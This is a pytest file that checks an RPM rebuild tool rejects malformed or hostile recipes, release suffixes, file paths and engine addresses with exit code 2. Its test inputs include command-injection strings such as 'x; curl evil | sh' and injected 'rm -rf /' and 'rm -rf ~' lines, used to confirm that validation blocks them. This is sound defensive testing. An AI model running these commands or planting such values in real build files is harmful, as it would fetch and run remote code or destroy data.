"""Recipes, manifests and CI plans that are wrong or hostile: each is bad input (exit 2), found when the
recipe loads, before any engine is asked for anything (DOCKER_HOST points nowhere)."""

from __future__ import annotations

import pytest

from tests.conftest import copy_case, make_srpm
from tests.hostile.conftest import one_line_error, quietly

NOWHERE = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}


@pytest.fixture
def srpm(tmp_path):
    return make_srpm(copy_case("noarch", tmp_path) / "greeting.spec", tmp_path / "src")


def _recipe(tmp_path, srpm, extra: str = "", source: str = "", target: str = "testroot"):
    path = tmp_path / "r.yaml"
    path.write_text(f"name: greeting\nsource:\n  srpm: {srpm.name}\n  urls: ['{srpm.as_uri()}']\n{source}"
                    f"target: {target}\n{extra}")
    return path


@pytest.mark.parametrize("case", ["not-an-rpm", "other-package", "gpg-unreadable", "floors-not-manifest",
                                  "run-string", "space-in-host", "bad-target"])
def test_late_errors_are_found_when_the_recipe_loads(tmp_path, srpm, case):
    env = {**NOWHERE, "REBUILD_CACHE": str(tmp_path / "cache")}
    if case == "not-an-rpm":
        srpm.write_bytes(b"<html>not an rpm</html>")
        recipe = _recipe(tmp_path, srpm)
    elif case == "other-package":
        recipe = _recipe(tmp_path, srpm.rename(srpm.with_name("other-1-1.src.rpm")))
    elif case == "gpg-unreadable":
        (tmp_path / "key.asc").mkdir()
        recipe = _recipe(tmp_path, srpm, source="  gpg_keys: [key.asc]\n")
    elif case == "floors-not-manifest":
        (tmp_path / "floors.yaml").write_text("- just\n- a list\n")
        recipe = _recipe(tmp_path, srpm, extra="floors: floors.yaml\n")
    elif case == "run-string":
        recipe = _recipe(tmp_path, srpm, extra="checks:\n  - name: x\n    run: /bin/true --version\n")
    elif case == "space-in-host":
        recipe = tmp_path / "r.yaml"
        recipe.write_text(f"name: g\nsource:\n  srpm: {srpm.name}\n  urls: ['http://bad host/x.src.rpm']\n"
                          "target: testroot\n")
    else:
        recipe = _recipe(tmp_path, srpm, target="'x; curl evil | sh'")
    proc = quietly("build", str(recipe), "--out", str(tmp_path / "out"), env=env)
    one_line_error(proc, 2)
    assert "docker" not in proc.stderr.lower()


def test_plan_names_the_broken_file_and_quotes_what_it_prints(tmp_path, srpm):
    home = tmp_path / "home"
    (home / "specs").mkdir(parents=True)
    (home / "specs" / "broken.yaml").write_text("name: [unclosed\n")
    proc = quietly("plan", env={"REBUILD_HOME": str(home)})
    one_line_error(proc, 2)
    assert "broken.yaml" in proc.stderr
    proc = quietly("plan", str(_recipe(tmp_path, srpm)), "--format", "gitlab", "--target", "x; curl evil | sh")
    one_line_error(proc, 2)
    weird = tmp_path / "we ird"
    weird.mkdir()
    recipe = _recipe(weird, srpm)
    proc = quietly("plan", str(recipe), "--format", "gitlab")
    assert proc.returncode == 0 and "'" in proc.stdout.split("rebuild build ")[1].split(" --target")[0]


@pytest.mark.parametrize("suffix", ["\n%post\nrm -rf /", ".rb1\nRequires: evil", "a b", "%{lua:x}"])
def test_a_release_suffix_is_one_validation_for_patch_and_recipes(tmp_path, srpm, suffix):
    spec = tmp_path / "x.spec"
    spec.write_text("Name: x\nVersion: 1\nRelease: 1\n%description\nx\n")
    one_line_error(quietly("patch", str(spec), "--release-suffix", suffix), 2)
    assert spec.read_text() == "Name: x\nVersion: 1\nRelease: 1\n%description\nx\n"
    recipe = _recipe(tmp_path, srpm, extra=f"spec:\n  release_suffix: {suffix!r}\n".replace("\\n", "\\\\n"))
    one_line_error(quietly("build", str(recipe), env=NOWHERE), 2)


def test_a_recipe_path_with_a_newline_cannot_add_a_line_to_the_shell_plan(tmp_path):
    home = tmp_path / "home"
    (home / "specs").mkdir(parents=True)
    (home / "specs" / "x.src.rpm").write_bytes(b"")
    evil = home / "specs" / "a\nrm -rf ~.yaml"
    evil.write_text("name: a\nsource:\n  srpm: x.src.rpm\n  urls: [x.src.rpm]\ntarget: testroot\n")
    proc = quietly("plan", "--format", "shell", str(evil), env={"REBUILD_HOME": str(home)})
    assert proc.returncode == 2 and proc.stdout == "" and "control character" in proc.stderr


@pytest.mark.parametrize("host", ["tcp://127.0.0.1:99999", "tcp://[::1", "tcp://user:pw@host:2375", "http://x"])
def test_a_malformed_engine_address_is_one_line_and_exit_2_without_its_password(host):
    proc = quietly("targets", env={"DOCKER_HOST": host})
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "DOCKER_HOST" in proc.stderr
    assert "pw@" not in proc.stderr and "Traceback" not in proc.stderr
